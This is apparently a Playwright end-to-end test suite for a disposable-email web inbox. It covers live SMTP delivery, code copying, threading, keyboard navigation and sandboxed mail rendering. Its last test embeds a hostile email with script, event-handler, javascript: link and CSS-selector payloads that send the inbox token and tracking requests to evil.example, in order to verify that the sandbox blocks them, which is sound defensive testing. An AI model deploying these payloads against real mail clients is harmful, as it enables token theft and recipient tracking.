import { readFile } from 'node:fs/promises';
import type { Frame, Page } from 'playwright-core';
import { launchBrowser, TestBrowser } from '../support/browser';
import { startTestApp, TestApp, waitFor } from '../support/harness';
import { buildMail, sendRawMail } from '../support/smtp';

/**
 * The web inbox in a real browser (Debian's chromium), opened the way a new user does: the
 * `view_url` of a create-inbox response. Mail is delivered over real SMTP while the page is open.
 */
describe('Web inbox: a temporary inbox opened by its token link', () => {
  let t: TestApp;
  let browser: TestBrowser;
  let page: Page;
  let inbox: { id: string; address: string; token: string; view_url: string };

  beforeAll(async () => {
    t = await startTestApp();
    browser = await launchBrowser(t.baseUrl);
    page = browser.page;
    page.setDefaultTimeout(8000);
    const created = await t.api.post('/api/v1/public/inbox');
    inbox = created.body.data;
  });
  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });
  afterEach(() => {
    expect(browser.errors).toEqual([]);
    expect(browser.dialogs).toEqual([]);
    expect(browser.outsideRequests).toEqual([]);
  });

  const deliver = async (spec: Parameters<typeof buildMail>[0]) => {
    const reply = await sendRawMail(t, { from: 'sender@shop.example', to: [inbox.address], raw: await buildMail(spec) });
    expect(reply.code).toBe(250);
  };
  const row = (subject: string) => page.locator('.message-row', { hasText: subject });
  const mailFrame = async (): Promise<Frame> => {
    const element = await page.waitForSelector('[data-testid="mail-frame"]');
    const frame = await waitFor(async () => element.contentFrame(), { what: 'the mail frame' });
    await frame.waitForLoadState('load');
    return frame;
  };

  it('lands on the web inbox from GET /, served with its own strict CSP and no inline script', async () => {
    const root = await fetch(`${t.baseUrl}/`, { redirect: 'manual' });
    expect(root.status).toBe(302);
    expect(root.headers.get('location')).toBe('/view');
    const view = await fetch(`${t.baseUrl}/view`);
    expect(view.status).toBe(200);
    const csp = view.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toMatch(/script-src[^;]*unsafe/);
    const htmlText = await view.text();
    expect(htmlText.match(/<script[^>]*>/g)).toEqual(['<script type="module" src="/view/app/main.js">']);
    expect(inbox.view_url).toBe(`${t.baseUrl}/view#token=${inbox.token}`);
  });

  it('shows mail delivered over SMTP while the page is open, without a reload, as unread', async () => {
    await page.goto(inbox.view_url);
    await expect(page.getByTestId('inbox-address').textContent()).resolves.toBe(inbox.address);
    await page.locator('.live-live').waitFor();
    const requestsBefore = await page.evaluate<number>("performance.getEntriesByType('navigation').length");

    await deliver({
      from: '"Acme Accounts" <accounts@acme.example>',
      to: inbox.address,
      subject: 'Your Acme sign-in code',
      messageId: '<first@acme.example>',
      text: 'Hi!\n\nYour verification code is 482913. It expires in 10 minutes.',
      html: '<p>Hi!</p><p>Your verification code is <b style="font-size:24px">482913</b>. It expires in 10 minutes.</p>',
      attachments: [{ filename: 'report.csv', content: 'name,score\nada,42\n', contentType: 'text/csv' }],
    });

    await row('Your Acme sign-in code').waitFor();
    await expect(row('Your Acme sign-in code').getAttribute('data-unread')).resolves.toBe('true');
    await expect(page.getByTestId('latest-code').locator('.latest-code-value').textContent()).resolves.toBe('482913');
    // Same document: no navigation happened.
    await expect(page.evaluate<number>("performance.getEntriesByType('navigation').length")).resolves.toBe(requestsBefore);
  });

  it('opens the message: one-click copy of the code, attachment download, raw source', async () => {
    await row('Your Acme sign-in code').click();
    const view = page.getByTestId('message-view');
    await view.locator('h1', { hasText: 'Your Acme sign-in code' }).waitFor();
    await expect(row('Your Acme sign-in code').getAttribute('data-unread')).resolves.toBe('false');
    await expect(view.getByTestId('code-value').textContent()).resolves.toBe('482913');
    // The sender's display name, and the authentication verdicts as badges.
    await expect(view.locator('.message-from-text').textContent()).resolves.toContain('Acme Accounts <accounts@acme.example>');
    await expect(view.getByTestId('auth-badges').textContent()).resolves.toMatch(/SPF.*DKIM.*DMARC/);

    const copy = view.getByTestId('code-card').getByRole('button', { name: /copy code/i });
    // A function, not a string: the viewer's CSP refuses string evaluation (no 'unsafe-eval').
    const copied = page.waitForFunction(() => (globalThis as any).document.querySelector('[data-testid="code-card"] .btn-copy')?.getAttribute('data-state') === 'copied');
    await copy.click();
    await copied;
    await expect(page.evaluate<string>('navigator.clipboard.readText()')).resolves.toBe('482913');

    const [download] = await Promise.all([page.waitForEvent('download'), view.getByRole('button', { name: /download report\.csv/i }).click()]);
    expect(download.suggestedFilename()).toBe('report.csv');
    await expect(readFile((await download.path())!, 'utf8')).resolves.toBe('name,score\nada,42\n');

    const frame = await mailFrame();
    await expect(frame.locator('b').textContent()).resolves.toBe('482913');

    await view.getByRole('tab', { name: 'Source' }).click();
    await expect(view.getByTestId('raw-source').textContent()).resolves.toContain('Subject: Your Acme sign-in code');
  });

  it('shows the thread of a reply and moves between messages', async () => {
    await deliver({
      from: 'accounts@acme.example',
      to: inbox.address,
      subject: 'Re: Your Acme sign-in code',
      inReplyTo: '<first@acme.example>',
      references: '<first@acme.example>',
      text: 'A follow-up about your sign-in.',
    });
    await row('Re: Your Acme sign-in code').click();
    const thread = page.getByTestId('thread');
    await thread.waitFor();
    await expect(thread.locator('li').count()).resolves.toBe(2);
    await thread.locator('.thread-item:not(.is-current)').click();
    await page.getByTestId('message-view').locator('h1').getByText('Your Acme sign-in code', { exact: true }).waitFor();
  });

  it('is driven from the keyboard: j/k move, Enter opens, / searches, Delete deletes', async () => {
    await deliver({ from: 'billing@shop.example', to: inbox.address, subject: 'Invoice 2026-11', text: 'Your invoice is attached.' });
    await row('Invoice 2026-11').waitFor();
    await page.locator('body').click({ position: { x: 1, y: 1 } });

    // Newest first: Invoice, Re: …, the code mail. Move to the second row and open it.
    await page.keyboard.press('Escape');
    await page.keyboard.press('k');
    await page.keyboard.press('k');
    await page.keyboard.press('k');
    await page.keyboard.press('j');
    await page.keyboard.press('Enter');
    await page.getByTestId('message-view').locator('h1', { hasText: 'Re: Your Acme sign-in code' }).waitFor();

    await page.keyboard.press('/');
    await page.keyboard.type('invoice');
    await waitFor(async () => (await page.locator('.message-row').count()) === 1, { what: 'the search to filter the list' });
    // Escape clears the search, a second Escape leaves the box.
    await page.keyboard.press('Escape');
    await waitFor(async () => (await page.locator('.message-row').count()) === 3, { what: 'the full list again' });
    await page.keyboard.press('Escape');

    await page.keyboard.press('Delete');
    await waitFor(async () => (await row('Re: Your Acme sign-in code').count()) === 0, { what: 'the deleted row to go' });
    const list = await t.api.get(`/api/v1/inboxes/${inbox.id}/messages`, { inboxToken: inbox.token });
    expect(list.body.data.map((m: { subject: string }) => m.subject)).toEqual(['Invoice 2026-11', 'Your Acme sign-in code']);
  });

  it('renders hostile HTML inertly: no script, no dialog, no outside request, the token out of reach', async () => {
    const hostile = `<html><head>
      <meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
      <base href="https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/style.css">
      <style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/bg.png) }
        @font-face { font-family: x; src: url("https://evil.example/font.woff") } p { font-family: x }
        input[value^="t"] { background-image: url(https://evil.example/leak?t) }</style>
      <script>window.pwned = 1; alert('script'); new Image().src = 'https://evil.example/s?' + parent.location.hash;</script>
    </head><body>
      <p id="hello">Hello from a hostile sender</p>
      <img src="https://evil.example/pixel.png" onerror="alert('onerror')" onload="alert('onload')">
      <img src="x" onerror="window.pwned = 2; alert('onerror2')">
      <a id="js" href="javascript:alert('link')">click me</a>
      <a id="data" href="data:text/html,<script>alert('data')</script>">data link</a>
      <svg onload="alert('svg')"><image href="https://evil.example/svg.png"/></svg>
      <iframe src="https://evil.example/frame"></iframe>
      <form action="https://evil.example/form"><input name="a" value="token" autofocus onfocus="alert('focus')"></form>
      <div style="background-image:url('https://evil.example/inline.png')">styled</div>
      <object data="https://evil.example/object"></object>
      <video poster="https://evil.example/poster.png" src="https://evil.example/video.mp4"></video>
    </body></html>`;
    await deliver({ from: 'mallory@evil.example', to: inbox.address, subject: 'Totally harmless', html: hostile, text: 'Totally harmless' });
    await row('Totally harmless').click();
    const frame = await mailFrame();
    await expect(frame.locator('#hello').textContent()).resolves.toBe('Hello from a hostile sender');
    await expect(page.getByTestId('remote-blocked').textContent()).resolves.toMatch(/remote resources blocked/);

    // The frame is sandboxed without scripts and without this origin.
    const sandbox = (await page.getAttribute('[data-testid="mail-frame"]', 'sandbox')) ?? '';
    expect(sandbox.split(/\s+/)).not.toContain('allow-scripts');
    expect(sandbox.split(/\s+/)).not.toContain('allow-same-origin');
    await expect(frame.evaluate('typeof window.pwned')).resolves.toBe('undefined');
    // Even code running inside the frame could not read the viewer's URL (the token), storage or cookies.
    const reach = await frame.evaluate(`(() => {
      const attempt = (read) => {
        try {
          return 'read: ' + String(read());
        } catch (error) {
          return error.name;
        }
      };
      return {
        hash: attempt(() => parent.location.hash),
        parentDocument: attempt(() => parent.document.title),
        storage: attempt(() => localStorage.length),
        cookie: attempt(() => document.cookie),
        origin: window.origin,
      };
    })()`);
    expect(reach).toEqual({ hash: 'SecurityError', parentDocument: 'SecurityError', storage: 'SecurityError', cookie: 'SecurityError', origin: 'null' });
    // The document carries its own policy: no scripts, no connections, no remote images.
    const policy = await frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain('img-src data:;');

    // Clicking the javascript: and data: links does nothing.
    await frame.locator('#js').click();
    await frame.locator('#data').click();
    expect(await frame.locator('#js').getAttribute('href')).toBeNull();
    expect(browser.context.pages()).toHaveLength(1);
    expect(frame.url()).toBe('about:srcdoc');
    expect(page.url()).toBe(inbox.view_url);
    expect(browser.outsideRequests).toEqual([]);

    // Only when the reader asks: remote images load (this harness aborts them), and nothing else does.
    await page.getByRole('button', { name: 'Load remote images' }).click();
    await waitFor(() => browser.outsideRequests.length >= 4, { what: 'the remote images to be requested' });
    await (await mailFrame()).waitForLoadState('load');
    expect([...browser.outsideRequests].sort()).toEqual(['bg.png', 'inline.png', 'pixel.png', 'poster.png'].map((name) => `https://evil.example/${name}`));
    await expect((await mailFrame()).evaluate('typeof window.pwned')).resolves.toBe('undefined');
    expect(browser.errors.every((error) => error.startsWith('Failed to load resource: net::ERR_FAILED'))).toBe(true);
    browser.errors.length = 0;
    browser.outsideRequests.length = 0;
  });
});
